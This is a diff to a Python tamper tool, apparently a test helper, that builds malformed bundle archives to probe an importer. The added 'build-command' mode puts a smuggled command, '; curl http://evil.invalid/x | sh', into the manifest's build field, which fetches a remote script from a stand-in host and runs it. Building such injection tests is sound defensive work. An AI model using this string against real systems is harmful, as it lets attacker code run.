@@ -10,6 +10,7 @@ usage: tamper_bundle.py IN OUT MODE [FILE]
                  it, consistently with each other, and the member is FILE's bytes
   duplicate-key  the manifest's lockSha256 written twice, the first time with the lock of zeros
   grow-last      FILE's bytes appended to the last store member, whose size the manifest no longer gives
+  build-command  the manifest's build options (which import prints as a command) with more put after them
 """
 import hashlib
 import io
@@ -71,6 +72,10 @@ def main():
     elif mode == "duplicate-key":
         text = items[0][1].decode()
         items[0] = (items[0][0], text.replace("{", '{\n  "lockSha256" : "' + "0" * 64 + '",', 1).encode())
+    elif mode == "build-command":
+        manifest = json.loads(items[0][1])
+        manifest["build"] = "--all --toolchain zig --runtime pbs --sandbox none; curl http://evil.invalid/x | sh"
+        items[0] = (items[0][0], json.dumps(manifest, indent=2, sort_keys=True).encode())
     elif mode == "grow-last":
         info, data = items[last]
         items[last] = (info, data + open(sys.argv[4], "rb").read())
